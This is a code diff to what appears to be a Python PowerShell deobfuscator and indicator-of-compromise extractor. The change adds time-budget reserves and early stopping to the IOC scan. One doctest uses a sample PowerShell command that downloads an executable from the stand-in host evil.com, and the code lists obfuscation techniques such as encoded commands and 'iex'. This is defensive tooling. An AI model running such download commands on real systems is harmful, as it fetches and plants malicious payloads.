@@ -74,10 +74,13 @@ class _Stop(Exception):
 
 
 class _Ctx:
-    __slots__ = ("deadline", "ticks", "reason", "max_bytes")
+    __slots__ = ("deadline", "end", "ticks", "reason", "max_bytes")
 
     def __init__(self, budget_ms: float, max_bytes: int) -> None:
-        self.deadline = time.perf_counter() + budget_ms / 1000.0
+        # the passes stop at `deadline`; the last tenth of the budget, up to `end`, is kept for
+        # the work after them (IOCs, the SecureString check), which stops at `end`
+        self.end = time.perf_counter() + budget_ms / 1000.0
+        self.deadline = self.end - budget_ms / 10_000.0
         self.ticks = 0
         self.reason: str | None = None
         self.max_bytes = max_bytes
@@ -89,6 +92,17 @@ class _Ctx:
             if time.perf_counter() > self.deadline:
                 self.reason = self.reason or "time budget"  # the first cause is the telling one
                 raise _Stop
+
+    def reserve(self, text: str) -> None:
+        """Keep time after the passes for the work on *text* that follows them (hashing,
+        lowering, slicing, freeing: a few ns a character), on top of the last tenth."""
+        self.deadline = min(self.deadline, self.end - len(text) * 4e-9)
+
+    def token_deadline(self) -> float:
+        """When tokenizing must stop: freeing the tokens later costs a third of making them, and
+        folding needs time too, so a scan may use 60% of what is left."""
+        now = time.perf_counter()
+        return now + 0.6 * (self.deadline - now)
 
     def size(self, n: int) -> None:
         if n > MAX_VALUE or n > self.max_bytes * 2:
@@ -1435,13 +1449,20 @@ _PATH_AT = [re.compile(r":(?=\\)"), re.compile("%"), re.compile(r"\$(?=[eE][nN][
 _IP_AT = re.compile(r"\.(?=\d{1,3}\.\d{1,3}\.\d)")
 
 
-def _finditer_at(rx: re.Pattern[str], text: str, starts: list[int]) -> list[re.Match[str]]:
+class _Late(Exception):
+    """The IOC scan ran past its deadline."""
+
+
+def _finditer_at(rx: re.Pattern[str], text: str, starts: list[int],
+                 deadline: float | None = None) -> list[re.Match[str]]:
     """rx.finditer(text) when every match of rx starts at one of *starts* (a superset): the
     same matches, each tried only there. A match is the leftmost one at or after the end of
     the previous, so trying the candidates in order and skipping those inside a match is exact."""
     out = []
     end = 0
-    for s in sorted(set(starts)):
+    for n, s in enumerate(sorted(set(starts))):
+        if deadline is not None and not n & 127 and time.perf_counter() > deadline:
+            raise _Late
         if s >= end and (m := rx.match(text, s)) is not None:
             out.append(m)
             end = m.end()
@@ -1454,16 +1475,36 @@ def extract_iocs(text: str) -> dict[str, list[str]]:
     >>> extract_iocs("(New-Object Net.WebClient).DownloadFile('http://evil.com/a.exe','C:\\\\t\\\\a.exe')")
     {'urls': ['http://evil.com/a.exe'], 'domains': ['evil.com'], 'ips': [], 'paths': ['C:\\\\t\\\\a.exe']}
     """
-    text = text[:IOC_SCAN]
+    return _iocs(text, None)[0]
 
+
+def _iocs(text: str, deadline: float | None) -> tuple[dict[str, list[str]], bool]:
+    """extract_iocs(text), and whether it finished: past *deadline* (a time.perf_counter()
+    value) the kinds not yet scanned stay empty and the one being scanned keeps what it found."""
+    found: dict[str, list[str]] = {"urls": [], "domains": [], "ips": [], "paths": []}
+    try:
+        _scan_iocs(text[:IOC_SCAN], found, deadline)
+    except _Late:
+        return found, False
+    return found, True
+
+
+def _scan_iocs(text: str, found: dict[str, list[str]], deadline: float | None) -> None:
     def uniq(xs: Any) -> list[str]:
         return list(dict.fromkeys(xs))[:1000]
 
+    def late() -> None:
+        if deadline is not None and time.perf_counter() > deadline:
+            raise _Late
+
     starts = [m.start() - d for m in _URL_AT.finditer(text) for d in (5, 4, 3) if m.start() >= d]
-    urls = uniq(m.group().rstrip(".'\"") for m in _finditer_at(_URL, text, starts))
+    urls = found["urls"] = uniq(m.group().rstrip(".'\"") for m in _finditer_at(_URL, text, starts, deadline))
+    late()
     hosts = [re.sub(r"(?i)^[a-z]+://(?:[^@/]*@)?", "", u).split("/")[0].split(":")[0].split("?")[0].lower() for u in urls]
     bare = []
-    for m in _TLD_HIT.finditer(text):
+    for n, m in enumerate(_TLD_HIT.finditer(text)):
+        if not n & 31:
+            late()
         left = _LEFT.search(text, max(0, m.start() - 253), m.start())
         if left is None or text[m.end():m.end() + 1] == "(":
             continue
@@ -1471,12 +1512,14 @@ def extract_iocs(text: str) -> dict[str, list[str]]:
         before = text[left.start() - 1:left.start()] if left.start() else ""
         if "." in name and _is_host(name) and before not in ("@", "$", "\\", "/", "-"):
             bare.append(name)
-    domains = uniq([h for h in hosts if h and not _IP.fullmatch(h)] + bare)
+    found["domains"] = uniq([h for h in hosts if h and not _IP.fullmatch(h)] + bare)
+    late()
     starts = [m.start() - d for m in _IP_AT.finditer(text) for d in (3, 2, 1) if m.start() >= d]
-    ips = uniq(m.group() for m in _finditer_at(_IP_CAND, text, starts) if _IP.fullmatch(m.group()))
+    found["ips"] = uniq(m.group() for m in _finditer_at(_IP_CAND, text, starts, deadline)
+                        if _IP.fullmatch(m.group()))
+    late()
     starts = [m.start() - (m.group() == ":") for rx in _PATH_AT for m in rx.finditer(text)]
-    paths = uniq(m.group().rstrip(".") for m in _finditer_at(_PATH, text, starts))
-    return {"urls": urls, "domains": domains, "ips": ips, "paths": paths}
+    found["paths"] = uniq(m.group().rstrip(".") for m in _finditer_at(_PATH, text, starts, deadline))
 
 
 # -- driver ---------------------------------------------------------------------------------------
@@ -1504,6 +1547,7 @@ def deobfuscate(text: str | bytes, *, budget_ms: float = 50, max_layers: int = M
             res.truncated, res.reason = True, "input size cap"
         env: dict[str, Any] = dict(_AUTO_VARS)
         cur = text
+        ctx.reserve(cur)
         seen = {cur}
         toks: list[Token] | None = None
         toks_of = ""
@@ -1520,7 +1564,7 @@ def deobfuscate(text: str | bytes, *, budget_ms: float = 50, max_layers: int = M
             if step is not None:
                 techs, nxt = {step[0]}, step[1]
             else:
-                toks = code_tokens(cur, ctx.deadline)
+                toks = code_tokens(cur, ctx.token_deadline())
                 if time.perf_counter() > ctx.deadline:
                     ctx.reason = ctx.reason or "time budget"
                     raise _Stop
@@ -1536,6 +1580,7 @@ def deobfuscate(text: str | bytes, *, budget_ms: float = 50, max_layers: int = M
             if not nxt.strip() or nxt in seen:
                 break
             seen.add(nxt)
+            ctx.reserve(nxt)
             order = ["encodedcommand", "launcher", "base64", "deflate", "gzip", "bxor", "char-codes", "format", "concat", "join", "split", "replace", "reverse", "backticks", "case", "member-string", "iex-alias", "iex"]
             name = "+".join(t for t in order if t in techs) or "+".join(sorted(techs))
             res.layers.append(Layer(name, nxt))
@@ -1543,7 +1588,7 @@ def deobfuscate(text: str | bytes, *, budget_ms: float = 50, max_layers: int = M
             cur = nxt
         if time.perf_counter() <= ctx.deadline:
             if toks is None or toks_of != cur:
-                toks = code_tokens(cur, ctx.deadline)
+                toks = code_tokens(cur, ctx.token_deadline())
                 closes = [None]
             techs, folded = _fold(cur, toks, env, ctx, closes)
             res.techniques.update(techs)
@@ -1566,11 +1611,16 @@ def deobfuscate(text: str | bytes, *, budget_ms: float = 50, max_layers: int = M
     if "convertto-securestring" in low or "securestringtobstr" in low:
         res.secure_string = True
         res.techniques.add("securestring")
-    # out of time: IOCs from the head of each text only (the scan costs ~1 ms per 8 KB)
+    # out of time: IOCs from the head of each text only; past the end of the budget no more
     scan = IOC_SCAN if time.perf_counter() <= ctx.deadline else IOC_SCAN // 8
-    iocs = extract_iocs(res.final[:scan])
+    iocs, done = _iocs(res.final[:scan], ctx.end)
     for layer in res.layers[:-1]:
-        for key, vals in extract_iocs(layer.text[:scan]).items():
+        if not done:
+            break
+        more, done = _iocs(layer.text[:scan], ctx.end)
+        for key, vals in more.items():
             iocs[key] = list(dict.fromkeys(iocs[key] + vals))
+    if not done:
+        res.truncated, res.reason = True, res.reason or "time budget"
     res.iocs = iocs
     return res
